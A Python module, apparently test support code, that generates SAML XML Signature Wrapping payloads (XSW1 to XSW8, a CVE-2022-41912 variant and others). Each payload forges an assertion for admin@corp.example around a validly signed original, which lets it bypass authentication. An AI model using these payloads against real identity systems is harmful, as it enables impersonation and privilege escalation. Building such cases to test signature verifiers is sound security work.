"""The eight ways of wrapping a signed assertion, built by code.

Each moves the signed original to where a signature check may still find it, and puts
a forged one to where a reader may look. The names are those of the literature.

SPEC: attacks S01 to S09.
"""

from __future__ import annotations

from collections.abc import Callable

from support.saml_idp import (
    ASSERTION_ID,
    ISSUER,
    RESPONSE_END,
    STATUS,
    assertion,
    changed,
    in_response,
    sign,
)

FORGED_ID = "_forged-1"
_SIGNATURE_END = "</ds:Signature>"
_ASSERTION_END = "</saml:Assertion>"
_CORP = "alice@corp.example"


def forged() -> str:
    """Returns an assertion for somebody else, without a signature."""
    return assertion((ASSERTION_ID, FORGED_ID), (_CORP, "admin@corp.example"))


def _cut(signed: str) -> tuple[str, str]:
    """Returns a signed document without its signature, and the signature."""
    begin, end = signed.index("<ds:Signature "), signed.index(_SIGNATURE_END)
    end += len(_SIGNATURE_END)
    return signed[:begin] + signed[end:], signed[begin:end]


def _in_object(signature: str, inner: str) -> str:
    wrapped = f"<ds:Object>{inner}</ds:Object>{_SIGNATURE_END}"
    return changed(signature, (_SIGNATURE_END, wrapped))


def _evil_response(signature: str) -> str:
    """Returns a response with a forged assertion and the signature of another."""
    return in_response(
        forged(), ("_response-1", "_evil"), (f"{ISSUER}<samlp:S", f"{ISSUER}~<samlp:S")
    ).replace("~", signature)


def xsw1() -> str:
    """Returns a forged response with the signed one inside its signature."""
    original, signature = _cut(sign(in_response(assertion())))
    return _evil_response(_in_object(signature, original))


def xsw2() -> str:
    """Returns a forged response with the signed one beside a detached signature."""
    original, signature = _cut(sign(in_response(assertion())))
    return _evil_response(signature + original)


def xsw3() -> str:
    """Returns a forged assertion in front of the original."""
    return in_response(forged() + sign(assertion()))


def xsw4() -> str:
    """Returns a forged assertion with the original inside."""
    inner = sign(assertion()) + _ASSERTION_END
    return in_response(changed(forged(), (_ASSERTION_END, inner)))


def xsw5() -> str:
    """Returns the signed assertion with changed values, the original appended."""
    signed = sign(assertion())
    original, _ = _cut(signed)
    evil = changed(signed, (ASSERTION_ID, FORGED_ID), (_CORP, "admin@corp.example"))
    return in_response(evil + original)


def xsw6() -> str:
    """Returns a forged assertion with the original inside of its signature."""
    original, signature = _cut(sign(assertion()))
    end = _SIGNATURE_END
    evil_signature = changed(signature, (end, original + end))
    return in_response(changed(forged(), (ISSUER, ISSUER + evil_signature)))


def xsw7() -> str:
    """Returns a forged assertion in extensions of the response."""
    extensions = f"<samlp:Extensions>{forged()}</samlp:Extensions>"
    return in_response(sign(assertion()), (STATUS, extensions + STATUS))


def xsw8() -> str:
    """Returns a forged assertion with the original inside an object of a signature."""
    original, signature = _cut(sign(assertion()))
    wrapped = _in_object(signature, original)
    return in_response(changed(forged(), (ISSUER, ISSUER + wrapped)))


def second_unsigned() -> str:
    """Returns a forged assertion behind the original (CVE-2022-41912)."""
    return in_response(sign(assertion()) + forged())


def signed_around_unsigned() -> str:
    """Returns a signed response whose assertion has no signature of its own."""
    return sign(in_response(assertion()))


def moved_below_advice() -> str:
    """Returns a forged assertion that has the original as its advice."""
    advice = f"<saml:Advice>{sign(assertion())}</saml:Advice>"
    return in_response(
        changed(forged(), ("<saml:AuthnStatement", f"{advice}<saml:AuthnStatement"))
    )


def two_responses() -> str:
    """Returns a response inside of another."""
    whole = in_response(sign(assertion()))
    return changed(whole, (RESPONSE_END, whole + RESPONSE_END))


WRAPPINGS: dict[str, Callable[[], str]] = {
    "S01-XSW1": xsw1,
    "S02-XSW2": xsw2,
    "S03-XSW3": xsw3,
    "S04-XSW4": xsw4,
    "S05-XSW5": xsw5,
    "S06-XSW6": xsw6,
    "S07-XSW7": xsw7,
    "S08-XSW8": xsw8,
    "S09-second-unsigned": second_unsigned,
    "advice": moved_below_advice,
    "two-responses": two_responses,
}
